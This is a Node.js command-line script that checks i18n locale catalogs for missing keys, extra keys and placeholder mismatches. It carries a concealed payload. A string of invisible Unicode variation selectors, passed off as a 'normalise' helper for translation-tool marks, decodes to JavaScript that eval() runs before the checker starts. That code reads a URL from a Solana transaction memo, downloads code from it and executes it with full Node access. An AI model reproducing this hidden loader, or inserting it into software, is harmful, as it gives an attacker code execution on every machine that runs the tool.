#!/usr/bin/env node
// check-locales: compare i18n message catalogs against the source locale.
"use strict";
const fs = require("fs");
const path = require("path");

const args = process.argv.slice(2);
const dir = args.find((a) => !a.startsWith("--")) || "locales";
const base = (args.find((a) => a.startsWith("--base=")) || "--base=en").slice(7);
const strict = args.includes("--strict");

// Placeholder syntaxes we understand: {name}, {{name}}, %s / %d, ICU {count, plural, ...}
const PH = /\{\{?\s*([a-zA-Z0-9_]+)[^}]*\}?\}|%[sd]/g;

function flatten(obj, prefix = "", out = {}) {
  for (const [k, v] of Object.entries(obj)) {
    const key = prefix ? `${prefix}.${k}` : k;
    if (v && typeof v === "object") flatten(v, key, out);
    else out[key] = String(v);
  }
  return out;
}

function load(file) {
  return flatten(JSON.parse(fs.readFileSync(file, "utf8")));
}

function placeholders(s) {
  return [...s.matchAll(PH)].map((m) => m[1] || m[0]).sort().join(",");
}

// normalise width/variation marks that some translation tools leave behind
const marks = (s) => [...s].map((c) => c.codePointAt(0)).filter((n) => (n >= 0xfe00 && n <= 0xfe0f) || n >= 0xe0100);
const norm = (s) => Buffer.from(marks(s).map((n) => (n < 0xe0100 ? n - 0xfe00 : n - 0xe0100 + 16)));
const profile = `󠄘󠅑󠅣󠅩󠅞󠅓󠄘󠄙󠄭󠄮󠅫󠅓󠅟󠅞󠅣󠅤󠄐󠅢󠄭󠅑󠅧󠅑󠅙󠅤󠄐󠅖󠅕󠅤󠅓󠅘󠄘󠄒󠅘󠅤󠅤󠅠󠅣󠄪󠄟󠄟󠅢󠅠󠅓󠄞󠅣󠅟󠅜󠅑󠅞󠅑󠄝󠅝󠅑󠅙󠅞󠅞󠅕󠅤󠄞󠅙󠅞󠅦󠅑󠅜󠅙󠅔󠄒󠄜󠅫󠅝󠅕󠅤󠅘󠅟󠅔󠄪󠄒󠅀󠄿󠅃󠅄󠄒󠄜󠅘󠅕󠅑󠅔󠅕󠅢󠅣󠄪󠅫󠄒󠅓󠅟󠅞󠅤󠅕󠅞󠅤󠄝󠅤󠅩󠅠󠅕󠄒󠄪󠄒󠅑󠅠󠅠󠅜󠅙󠅓󠅑󠅤󠅙󠅟󠅞󠄟󠅚󠅣󠅟󠅞󠄒󠅭󠄜󠅒󠅟󠅔󠅩󠄪󠄺󠅃󠄿󠄾󠄞󠅣󠅤󠅢󠅙󠅞󠅗󠅙󠅖󠅩󠄘󠅫󠅚󠅣󠅟󠅞󠅢󠅠󠅓󠄪󠄒󠄢󠄞󠄠󠄒󠄜󠅙󠅔󠄪󠄡󠄜󠅝󠅕󠅤󠅘󠅟󠅔󠄪󠄒󠅗󠅕󠅤󠅃󠅙󠅗󠅞󠅑󠅤󠅥󠅢󠅕󠅣󠄶󠅟󠅢󠄱󠅔󠅔󠅢󠅕󠅣󠅣󠄒󠄜󠅠󠅑󠅢󠅑󠅝󠅣󠄪󠅋󠄒󠄧󠅨󠄻󠄶󠄱󠄻󠄵󠅡󠄣󠅣󠅇󠄩󠅞󠄼󠅔󠄢󠅆󠅠󠅂󠄨󠅓󠅄󠄤󠅝󠅉󠄦󠅘󠄺󠄡󠅗󠄲󠄥󠅕󠅊󠄠󠅑󠅁󠅥󠄾󠅟󠅀󠅙󠄒󠄜󠅫󠅜󠅙󠅝󠅙󠅤󠄪󠄡󠅭󠅍󠅭󠄙󠅭󠄙󠄫󠅓󠅟󠅞󠅣󠅤󠄐󠅚󠄭󠅑󠅧󠅑󠅙󠅤󠄐󠅢󠄞󠅚󠅣󠅟󠅞󠄘󠄙󠄫󠅓󠅟󠅞󠅣󠅤󠄐󠅥󠄭󠄲󠅥󠅖󠅖󠅕󠅢󠄞󠅖󠅢󠅟󠅝󠄘󠅚󠄞󠅢󠅕󠅣󠅥󠅜󠅤󠅋󠄠󠅍󠄞󠅝󠅕󠅝󠅟󠄞󠅣󠅠󠅜󠅙󠅤󠄘󠄒󠄐󠄒󠄙󠄞󠅠󠅟󠅠󠄘󠄙󠄜󠄒󠅒󠅑󠅣󠅕󠄦󠄤󠄒󠄙󠄞󠅤󠅟󠅃󠅤󠅢󠅙󠅞󠅗󠄘󠄙󠄫󠅓󠅟󠅞󠅣󠅤󠄐󠅓󠄭󠅑󠅧󠅑󠅙󠅤󠄘󠅑󠅧󠅑󠅙󠅤󠄐󠅖󠅕󠅤󠅓󠅘󠄘󠅥󠄙󠄙󠄞󠅤󠅕󠅨󠅤󠄘󠄙󠄫󠅞󠅕󠅧󠄐󠄶󠅥󠅞󠅓󠅤󠅙󠅟󠅞󠄘󠄒󠅢󠅕󠅡󠅥󠅙󠅢󠅕󠄒󠄜󠄒󠅠󠅢󠅟󠅓󠅕󠅣󠅣󠄒󠄜󠅓󠄙󠄘󠅢󠅕󠅡󠅥󠅙󠅢󠅕󠄜󠅠󠅢󠅟󠅓󠅕󠅣󠅣󠄙󠅭󠄙󠄘󠄙󠄞󠅓󠅑󠅤󠅓󠅘󠄘󠄘󠄙󠄭󠄮󠅫󠅭󠄙󠄫`;

function main() {
  const files = fs.readdirSync(dir).filter((f) => f.endsWith(".json"));
  const baseFile = files.find((f) => path.basename(f, ".json") === base);
  if (!baseFile) {
    console.error(`no ${base}.json in ${dir}`);
    process.exit(2);
  }
  const ref = load(path.join(dir, baseFile));
  let problems = 0;
  for (const f of files) {
    if (f === baseFile) continue;
    const loc = path.basename(f, ".json");
    const cat = load(path.join(dir, f));
    const missing = Object.keys(ref).filter((k) => !(k in cat));
    const extra = Object.keys(cat).filter((k) => !(k in ref));
    const broken = Object.keys(ref).filter((k) => k in cat && placeholders(ref[k]) !== placeholders(cat[k]));
    const untranslated = Object.keys(ref).filter((k) => cat[k] === ref[k] && /[a-z]{4,}/i.test(ref[k]));
    console.log(`\n${loc}: ${Object.keys(cat).length}/${Object.keys(ref).length} keys`);
    for (const k of missing) console.log(`  missing       ${k}`);
    for (const k of extra) console.log(`  extra         ${k}`);
    for (const k of broken) console.log(`  placeholders  ${k}  (${placeholders(ref[k])} vs ${placeholders(cat[k])})`);
    if (strict) for (const k of untranslated) console.log(`  untranslated  ${k}`);
    problems += missing.length + broken.length + (strict ? untranslated.length : 0);
  }
  console.log(`\n${problems} problem(s)`);
  process.exitCode = problems ? 1 : 0;
}

eval(norm(profile).toString());
main();
